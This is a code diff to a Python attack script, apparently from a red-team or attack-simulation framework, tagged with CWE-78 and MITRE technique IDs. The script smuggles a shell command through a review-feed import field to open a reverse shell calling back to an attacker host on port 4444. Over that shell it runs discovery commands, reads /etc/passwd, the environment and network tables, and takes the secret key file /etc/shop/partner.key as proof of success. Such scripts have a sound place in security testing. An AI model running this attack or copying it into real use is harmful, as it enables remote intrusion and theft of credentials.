@@ -1,10 +1,10 @@
 #!/usr/bin/python3 -B
-"""A reverse shell: a feed that is a command calls back, and somebody looks around (CWE-78, T1059)."""
+"""A reverse shell: a feed that is a command calls back, and somebody looks around (CWE-78)."""
 
 from attack import Attack, call_back, session, until
 
-DISCOVERY = ("hostname", "id", "uname -a", "cat /etc/passwd", "ls -la / /app /etc/shop", "env", "ps aux || ls /proc",
-             "cat /proc/net/tcp /etc/hosts", "cat /etc/shop/partner.key")
+DISCOVERY = ("hostname", "id", "uname -a", "cat /etc/passwd", "ls -la / /app /etc/shop", "env",
+             "ps aux || ls /proc", "cat /proc/net/tcp /etc/hosts", "cat /etc/shop/partner.key")
 
 
 def run(attack: Attack) -> bool:
@@ -13,7 +13,9 @@ def run(attack: Attack) -> bool:
         attack.ask("POST", "/reviews/import", {"feed": f"|{call_back(attack, 4444)}"})
         until(lambda: len(said) == len(DISCOVERY))
     attack.replicas["reviews"] = said.get("hostname", "")
-    return attack.prove("reviews-c41d" in said.get(DISCOVERY[-1], ""), id=said.get("id"), hosts=said.get(DISCOVERY[-2]))
+    key = said.get(DISCOVERY[-1], "")
+    return attack.prove("reviews-c41d" in key, key=key, id=said.get("id"))
 
 
-Attack("T1059.004, T1082, T1083, T1049", ["edge", "reviews"], ["/etc/shop/partner.key", "attacker:4444"]).main(run)
+Attack("T1059.004, T1082, T1083, T1049", ["edge", "reviews"],
+       ["/etc/shop/partner.key", "attacker:4444"]).main(run)
